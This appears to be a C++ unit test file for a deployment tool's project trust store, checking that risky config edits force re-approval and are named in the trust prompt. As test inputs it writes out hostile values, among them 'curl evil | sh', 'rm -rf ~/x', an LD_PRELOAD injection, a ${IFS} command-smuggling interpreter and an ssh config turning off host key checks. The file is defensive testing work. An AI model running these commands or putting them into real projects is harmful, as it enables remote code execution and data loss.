// Project trust decisions: untrusted until recorded, asked again when a field that matters (or the
// ssh config file it names) changes, folders, a store inside the project never believed, private
// modes, and what the question calls out.
#define BOOST_TEST_MODULE project_trust
#include <boost/test/unit_test.hpp>

#include <sys/stat.h>

#include <cstdlib>

#include <nlohmann/json.hpp>

#include "helper/deploy/project_trust.hpp"
#include "tests/support/temp_dir.hpp"

namespace fs = std::filesystem;
using nlohmann::json;
using ferry::deploy::TrustState;
using ferry::deploy::TrustStore;
using ferry::test::TempDir;

namespace {

struct Project {
  TempDir dir{"ferry-trust"};
  json doc{{"name", "p"}, {"host", "local"}, {"mappings", {{{"local", "."}, {"remote", "~/work/p"}}}}};
  ferry::deploy::ProjectConfig config() const {
    auto c = ferry::deploy::parse_project(doc, dir.path());
    if (!c) throw std::runtime_error(c.error().to_string());
    return *c;
  }
};

mode_t mode_of(const fs::path& p) {
  struct stat st{};
  ::stat(p.c_str(), &st);
  return st.st_mode & 07777;
}

std::string joined(const ferry::deploy::TrustSummary& s) {
  std::string out;
  for (const auto& a : s.actions) out += a + "\n";
  for (const auto& w : s.warnings) out += "! " + w + "\n";
  return out;
}

}  // namespace

BOOST_AUTO_TEST_CASE(a_project_is_untrusted_until_recorded_and_stays_trusted_for_harmless_edits) {
  TempDir store_dir("ferry-trust-store");
  TrustStore store(store_dir.path());
  Project p;
  BOOST_TEST((store.check(p.config()).state == TrustState::untrusted));
  BOOST_REQUIRE(store.trust(p.config()));
  auto s = store.check(p.config());
  BOOST_TEST(s.trusted());
  BOOST_TEST(s.via == "project");
  // exclude and protect decide nothing that runs or connects
  p.doc["exclude"] = {"*.ckpt"};
  p.doc["protect"] = {"data/"};
  BOOST_TEST(store.check(p.config()).trusted());
}

BOOST_AUTO_TEST_CASE(each_field_that_matters_makes_it_ask_again_and_is_named) {
  TempDir store_dir("ferry-trust-store");
  TrustStore store(store_dir.path());
  Project p;
  BOOST_REQUIRE(store.trust(p.config()));
  const std::vector<std::pair<std::string, json>> edits{
      {"host", "gpu-box"},
      {"interpreter", "sh -c touch${IFS}MARKER"},
      {"trainer", "/opt/train"},
      {"env", {{"LD_PRELOAD", "/tmp/x.so"}}},
      {"tunnels", {{{"name", "r"}, {"kind", "reverse"}, {"localPort", 22}, {"remotePort", 2222}}}},
      {"autostop", {{"enabled", true}, {"action", "command"}, {"command", "curl evil | sh"}}},
      {"launch", {{{"name", "x"}, {"script", "x.py"}}}},
      {"mappings", {{{"local", "."}, {"remote", "~/elsewhere"}}}},
  };
  for (const auto& [field, value] : edits) {
    Project q;
    q.doc[field] = value;
    if (field == "host") q.doc["host"] = "gpu-box";
    ferry::deploy::ProjectConfig changed = q.config();
    changed.root = p.config().root;  // the same project, edited
    auto s = store.check(changed);
    BOOST_TEST((s.state == TrustState::changed), field);
    BOOST_TEST(s.changed == std::vector<std::string>{field}, field);
  }
}

BOOST_AUTO_TEST_CASE(an_edit_of_the_ssh_config_file_it_names_asks_again) {
  TempDir store_dir("ferry-trust-store");
  TrustStore store(store_dir.path());
  Project p;
  ferry::test::write_file(p.dir / "ssh_config", "Host box\n  HostName 127.0.0.1\n");
  p.doc["host"] = "box";
  p.doc["sshConfig"] = "ssh_config";
  BOOST_REQUIRE(store.trust(p.config()));
  BOOST_TEST(store.check(p.config()).trusted());
  ferry::test::write_file(p.dir / "ssh_config", "Host box\n  HostName 203.0.113.9\n");
  auto s = store.check(p.config());
  BOOST_TEST((s.state == TrustState::changed));
  BOOST_TEST(s.changed == std::vector<std::string>{"sshConfig"});
}

BOOST_AUTO_TEST_CASE(a_trusted_folder_trusts_what_is_below_it_only) {
  TempDir store_dir("ferry-trust-store");
  TrustStore store(store_dir.path());
  Project p;
  fs::create_directories(p.dir / "work" / "a");
  BOOST_REQUIRE(store.trust_folder(p.dir / "work"));
  auto inside = p.config();
  inside.root = p.dir / "work" / "a";
  auto s = store.check(inside);
  BOOST_TEST(s.trusted());
  BOOST_TEST(s.via == (p.dir / "work").string());
  BOOST_TEST(!store.check(p.config()).trusted());  // the folder above is not
  auto sibling = p.config();
  sibling.root = p.dir / "workshop";  // a name that only starts the same
  BOOST_TEST(!store.check(sibling).trusted());
  BOOST_TEST(!store.trust_folder("/"));
}

BOOST_AUTO_TEST_CASE(a_store_inside_the_project_is_never_believed) {
  Project p;
  TrustStore planted(p.dir / ".config" / "ferry" / "trust");
  BOOST_TEST(!planted.trust(p.config()));
  // even one written there by hand, as a repository could ship it
  ferry::test::write_file(p.dir / ".config" / "ferry" / "trust" / "folders.json",
                          json{{"folders", {p.dir.path().string()}}}.dump());
  BOOST_TEST(!planted.check(p.config()).trusted());
}

BOOST_AUTO_TEST_CASE(decisions_are_private_and_can_be_revoked) {
  TempDir store_dir("ferry-trust-store");
  TrustStore store(store_dir.path() / "trust");
  Project p;
  BOOST_REQUIRE(store.trust(p.config()));
  BOOST_TEST(mode_of(store.dir()) == 0700u);
  BOOST_TEST(mode_of(store.dir() / "projects") == 0700u);
  for (const auto& e : fs::directory_iterator(store.dir() / "projects")) BOOST_TEST(mode_of(e.path()) == 0600u);
  BOOST_TEST(store.trusted_projects() == std::vector<fs::path>{fs::canonical(p.dir.path())});
  auto revoked = store.revoke(p.dir.path());
  BOOST_REQUIRE(revoked);
  BOOST_TEST(*revoked);
  BOOST_TEST(!store.check(p.config()).trusted());
  BOOST_TEST(!*store.revoke(p.dir.path()));
}

BOOST_AUTO_TEST_CASE(no_store_means_nothing_is_trusted) {
  Project p;
  TrustStore none{fs::path()};
  BOOST_TEST(!none.check(p.config()).trusted());
  BOOST_TEST(!none.trust(p.config()));
}

BOOST_AUTO_TEST_CASE(the_question_calls_out_a_repository_ssh_config_without_host_key_checks) {
  Project p;
  ferry::test::write_file(p.dir / "evil_ssh",
                          "Host box\n  HostName 127.0.0.1\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n");
  p.doc["host"] = "box";
  p.doc["sshConfig"] = "evil_ssh";
  p.doc["tunnels"] = {{{"name", "back"}, {"kind", "reverse"}, {"localPort", 5432}, {"remotePort", 5432}}};
  p.doc["autostop"] = {{"enabled", true}, {"action", "command"}, {"command", "rm -rf ~/x"}, {"preStop", "echo hi"}};
  const std::string text = joined(ferry::deploy::trust_summary(p.config()));
  BOOST_TEST(text.find("log in to box") != std::string::npos, text);
  BOOST_TEST(text.find("a file inside this project") != std::string::npos, text);
  BOOST_TEST(text.find("StrictHostKeyChecking is no") != std::string::npos, text);
  BOOST_TEST(text.find("UserKnownHostsFile /dev/null") != std::string::npos, text);
  BOOST_TEST(text.find("127.0.0.1:5432 on this machine") != std::string::npos, text);
  BOOST_TEST(text.find("`rm -rf ~/x`") != std::string::npos, text);
  BOOST_TEST(text.find("`echo hi`") != std::string::npos, text);
  const std::string q = ferry::deploy::trust_question(p.config(), {});
  BOOST_TEST(q.find("Do you trust the project " + p.dir.path().string()) != std::string::npos, q);
}

BOOST_AUTO_TEST_CASE(the_local_host_is_called_this_machine) {
  Project p;
  p.doc["interpreter"] = "/usr/bin/python3";
  const std::string text = joined(ferry::deploy::trust_summary(p.config()));
  BOOST_TEST(text.find("on THIS machine") != std::string::npos, text);
  BOOST_TEST(text.find("/usr/bin/python3") != std::string::npos, text);
}

BOOST_AUTO_TEST_CASE(an_edit_of_a_file_the_ssh_config_includes_asks_again) {
  TempDir store_dir("ferry-trust-store");
  TrustStore store(store_dir.path());
  Project p;
  ferry::test::write_file(p.dir / "ssh_config", "Include " + (p.dir / "more_config").string() + "\n");
  ferry::test::write_file(p.dir / "more_config", "Host box\n  HostName 127.0.0.1\n");
  p.doc["host"] = "box";
  p.doc["sshConfig"] = "ssh_config";
  BOOST_REQUIRE(store.trust(p.config()));
  BOOST_TEST(store.check(p.config()).trusted());
  ferry::test::write_file(p.dir / "more_config", "Host box\n  HostName 203.0.113.9\n  StrictHostKeyChecking no\n");
  auto s = store.check(p.config());
  BOOST_TEST((s.state == TrustState::changed));
  BOOST_TEST(s.changed == std::vector<std::string>{"sshConfig"});
}
